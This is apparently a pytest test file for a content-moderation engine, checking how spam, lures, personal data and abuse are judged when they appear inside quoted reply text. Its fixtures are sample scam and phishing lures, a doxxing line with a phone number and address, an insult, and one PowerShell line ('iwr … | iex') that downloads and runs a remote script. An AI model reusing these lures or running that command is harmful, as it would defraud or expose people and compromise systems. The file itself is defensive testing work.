"""Quoted content in detection: hits inside quote blocks are someone else's words.

A warning, a report or a reply that quotes spam, a lure or someone's phone number holds the
offending words without saying them. The engine marks such hits ``quoted``; solicitation,
malware and abuse found only there stay below the label, personal data is still found.
"""

from __future__ import annotations

import pytest

from governance.detect import classify
from governance.detect.engine import QUOTED_CAP
from governance.detect.quotes import blank, inside, quote_blocks
from governance.model import Category, Label

AIRDROP = ("Claim your free 2,500 USDT airdrop now! Only the first 500 wallets qualify: connect "
           "your wallet at https://claim-usdt-rewards.pages.dev before the offer ends.")
RECRUITER = ("Congratulations! You have been selected for a remote developer role at $9,000 a "
             "month. Apply today at https://gh-careers.web.app/apply and authorize with your "
             "GitHub account.")
PITCH = ("Boost your repository today! Buy 1,000 real GitHub stars for only $19. Fast delivery, "
         "order now at https://star-boost.example.shop or DM @starboost on Telegram.")
PHONE = "+49 30 901820"
DOXX = f"Complain to him directly, his private number is {PHONE} and he lives at 17 Rosenweg."
INSULT = "you are a worthless idiot and nobody wants you here"


def quoted(text: str) -> str:
    return "\n".join(f"> {line}" for line in text.split("\n"))


# ------------------------------------------------------------------- the structure


def test_quote_blocks_are_runs_of_quoted_lines():
    text = "> one\n> two\n\nmine\n> three\n"
    blocks = quote_blocks(text)
    assert [text[s:e] for s, e in blocks] == ["> one\n> two", "> three"]
    assert inside(blocks, ((2, 5), (8, 11))) and not inside(blocks, ((2, 16),))
    assert not inside(blocks, ())  # a hit that points at nothing is not placed in a quote


def test_a_prompt_in_a_code_fence_and_a_github_alert_are_not_quotes():
    text = ("Run this:\n```\n> iwr https://x.example/a.ps1 | iex\n```\n"
            "> [!WARNING]\n> Never paste commands from comments.\n")
    assert quote_blocks(text) == ()


def test_a_comment_with_no_words_of_its_own_quotes_nothing():
    """Quoting without saying anything is posting: the whole text is the author's."""
    assert quote_blocks(quoted(PITCH)) == ()
    assert quote_blocks(quoted(PITCH) + "\n\n:+1: !!") == ()
    # an e-mail reply's attribution line is not the author's own words either
    mail = "On Tue, Feb 20, 2024 at 7:52 PM Recruiter <jobs@example.org>\nwrote:\n\n"
    assert quote_blocks(mail + quoted(PITCH)) == ()
    assert quote_blocks("thanks\n\n" + mail + quoted(PITCH)) != ()


def test_blanking_keeps_offsets_and_lines():
    text = "mine\n> theirs\nmine again"
    out = blank(text, quote_blocks(text))
    assert len(out) == len(text) and out.count("\n") == 2 and "theirs" not in out


# ------------------------------------------------------------------- the verdict


@pytest.mark.parametrize("lure", [AIRDROP, RECRUITER], ids=["airdrop", "recruiter"])
def test_a_warning_quoting_a_lure_is_not_labelled(lure: str):
    assert classify(lure).label is not Label.OK  # the lure itself is caught
    warning = ("Scam alert: do not click the link in the comment above, it is not from the "
               "maintainers.\n\n" + quoted(lure))

    verdict = classify(warning)

    assert verdict.label is Label.OK and verdict.score <= QUOTED_CAP
    assert verdict.hits and all(h.quoted for h in verdict.hits)


def test_a_report_quoting_spam_keeps_the_quoted_hits_on_record_below_the_label():
    verdict = classify(quoted(PITCH) + "\n\n/coc report spam")
    assert verdict.label is Label.OK
    assert {h.category for h in verdict.hits} == {Category.SOLICITATION}
    assert all(h.quoted and h.score <= QUOTED_CAP for h in verdict.hits)
    assert any(h.rule_id.endswith(".model") for h in verdict.hits)  # the model too


def test_a_pitch_that_is_only_a_quote_is_the_authors_own():
    """The evasion: a bare pitch wrapped in ``>`` is judged as if written plainly."""
    plain, wrapped = classify(PITCH), classify(quoted(PITCH))
    assert wrapped.label is plain.label is Label.SOLICITATION
    assert wrapped.score == plain.score and not any(h.quoted for h in wrapped.hits)


def test_a_pitch_quoted_under_a_few_words_is_not_labelled():
    """The decided limit: with words of its own around it, a quoted pitch is someone
    else's; the policy keeps it from ever acting (see the moderation tests)."""
    verdict = classify(quoted(PITCH) + "\n\nis this legit?")
    assert verdict.label is Label.OK
    assert verdict.score == QUOTED_CAP and all(h.quoted for h in verdict.hits)


def test_text_outside_the_quote_is_judged_as_usual():
    verdict = classify(quoted(PITCH) + "\n\n" + INSULT)
    assert verdict.label is Label.ABUSE and verdict.score >= 0.85
    assert not any(h.quoted for h in verdict.hits_for(Category.ABUSE))
    assert all(h.quoted for h in verdict.hits_for(Category.SOLICITATION))


def test_the_authors_own_pitch_next_to_a_quote_is_labelled():
    verdict = classify("> does anyone know a fix?\n\n" + PITCH)
    assert verdict.label is Label.SOLICITATION and verdict.score >= 0.85
    assert not any(h.quoted for h in verdict.hits)


def test_quoted_personal_data_is_still_found_and_marked():
    text = quoted(DOXX) + "\n\nThis is someone's private number, please remove it."
    verdict = classify(text)
    assert verdict.label is Label.PII and verdict.score >= 0.85
    phone = next(h for h in verdict.hits if h.rule_id == "pii.phone_number")
    assert phone.quoted and any(text[s:e].strip() == PHONE for s, e in phone.evidence)


def test_personal_data_repeated_outside_the_quote_is_the_authors_own():
    office = "+49 30 901821"
    text = quoted(DOXX) + f"\n\nand his office number is {office}, call him there"
    verdict = classify(text)
    [phones] = [h for h in verdict.hits if h.rule_id == "pii.phone_number"]
    assert not phones.quoted and verdict.label is Label.PII
    assert {text[s:e].strip() for s, e in phones.evidence} >= {PHONE, office}


def test_abuse_reads_quotes_the_same_way():
    """Only a quote with the author's own words around it is someone else's; an insult in a
    GitHub alert or in a comment that is nothing but a quote is the author's."""
    reported = classify(quoted(INSULT) + "\n\nreporting this, please hide it")
    assert reported.label is Label.OK
    assert classify(quoted(INSULT)).label is Label.ABUSE
    assert classify("> [!NOTE]\n" + quoted(INSULT)).label is Label.ABUSE
